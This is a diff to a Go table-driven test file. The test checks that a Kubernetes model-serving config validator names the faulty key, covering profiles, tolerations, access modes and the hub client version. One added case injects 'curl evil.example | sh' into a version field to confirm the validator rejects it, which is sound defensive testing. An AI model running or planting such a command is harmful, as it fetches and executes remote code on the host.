@@ -106,7 +106,7 @@ func TestValidationNamesTheKeyToFix(t *testing.T) {
 		key  string
 		text string
 	}{
-		{"unknown profile", with(valid("agg"), "profile", "hybrid"), "minimax-m3:profile", "unknown profile"},
+		{"unknown profile", with(valid("agg"), "profile", "hybrid"), "minimax-m3:profile", `"hybrid" is not one of agg, disagg`},
 		{"clique without key", with(valid("agg"), "placement", `{"clique": "fabric.a"}`), "minimax-m3:placement.clique", "needs placement.topologyKey"},
 		{"clique not a label value", with(valid("disagg"), "placement", `{"clique": "fabric a"}`), "minimax-m3:placement.clique", "label value"},
 		{"topology key not a label", with(valid("disagg"), "placement", `{"topologyKey": "gpu clique"}`), "minimax-m3:placement.topologyKey", ""},
@@ -230,12 +230,16 @@ func TestValidationNamesTheKeyToFix(t *testing.T) {
 		{"init container without image", with(valid("agg"), "worker", `{"podTemplatePatch": {"spec": {"initContainers": [{"name": "warm"}]}}}`), "minimax-m3:worker.podTemplatePatch", `init container "warm" without an image`},
 		{"duplicate env", with(valid("agg"), "worker", `{"extraEnv": [{"name": "NCCL_CUMEM_ENABLE", "value": "0"}]}`), "minimax-m3:worker.extraEnv[0].name", "already set"},
 		{"env duplicating a network variable", with(valid("agg"), "worker", `{"network": {"socketInterface": "eth0"}, "extraEnv": [{"name": "NCCL_SOCKET_IFNAME", "value": "eth1"}]}`), "minimax-m3:worker.extraEnv[0].name", "already set"},
-		{"bad toleration operator", with(valid("agg"), "worker", `{"scheduling": {"tolerations": [{"key": "a", "operator": "In"}]}}`), "minimax-m3:worker.scheduling.tolerations[0].operator", "unknown operator"},
+		{"bad toleration operator", with(valid("agg"), "worker", `{"scheduling": {"tolerations": [{"key": "a", "operator": "In"}]}}`), "minimax-m3:worker.scheduling.tolerations[0].operator", `"In" is not one of Equal, Exists`},
+		{"bad toleration effect", with(valid("agg"), "worker", `{"scheduling": {"tolerations": [{"key": "a", "effect": "NoExec"}]}}`), "minimax-m3:worker.scheduling.tolerations[0].effect", `"NoExec" is not one of NoSchedule, PreferNoSchedule, NoExecute`},
 		{"bad runtime version", with(valid("agg"), "runtimeVersion", "latest"), "minimax-m3:runtimeVersion", "not a version"},
 		{"bad topology key", with(valid("agg"), "placement", `{"topologyKey": "not a key"}`), "minimax-m3:placement.topologyKey", "not a valid qualified name"},
 		{"gpu memory utilization", with(valid("agg"), "worker", `{"vllm": {"gpuMemoryUtilization": 1.5}}`), "minimax-m3:worker.vllm.gpuMemoryUtilization", "outside (0, 1]"},
 		{"CPU offload on disagg", with(valid("disagg"), "decodeWorker", `{"vllm": {"kvTransfer": {"cpuOffload": {"specName": "CPUOffloadingSpec", "cpuBytesToUse": 1}}}}`), "minimax-m3:decodeWorker.vllm.kvTransfer.cpuOffload", "NIXL"},
-		{"bad access mode", with(valid("agg"), "modelCache", `{"accessMode": "Shared"}`), "minimax-m3:modelCache.accessMode", "unknown access mode"},
+		{"a hub client version pip cannot install", with(valid("agg"), "modelDownload", `{"hubClientVersion": "latest"}`), "minimax-m3:modelDownload.hubClientVersion", `"latest" is not a huggingface_hub release pip installs`},
+		{"a hub client version that is a shell command", with(valid("agg"), "modelDownload", `{"hubClientVersion": "1.16.4; curl evil.example | sh"}`), "minimax-m3:modelDownload.hubClientVersion", "is not a huggingface_hub release"},
+		{"an exposure backend", with(valid("agg"), "exposure", `{"enabled": true, "gateway": {"name": "inference"}, "hostname": "m3.example.com", "scheme": "http", "backend": "service"}`), "minimax-m3:exposure.backend", `"service" is not one of frontend, inferencePool`},
+		{"bad access mode", with(valid("agg"), "modelCache", `{"accessMode": "Shared"}`), "minimax-m3:modelCache.accessMode", `"Shared" is not one of ReadWriteMany, ReadWriteOnce, ReadOnlyMany, ReadWriteOncePod (Kubernetes' volume access modes`},
 		{"relative mount path", with(valid("agg"), "modelCache", `{"mountPath": "cache"}`), "minimax-m3:modelCache.mountPath", "not a clean absolute path"},
 		{"bad pull secret", with(valid("agg"), "imagePullSecrets", `["NGC Pull"]`), "minimax-m3:imagePullSecrets[0]", "not a valid Kubernetes name"},
 		{"gke roce without interfaces", with(valid("disagg"), "prefillWorker", `{"network": {"gkeRoce": {"defaultInterface": "eth0", "networkResourceQuantity": "1"}}}`), "minimax-m3:prefillWorker.network.gkeRoce.rdmaInterfaces", "at least one"},
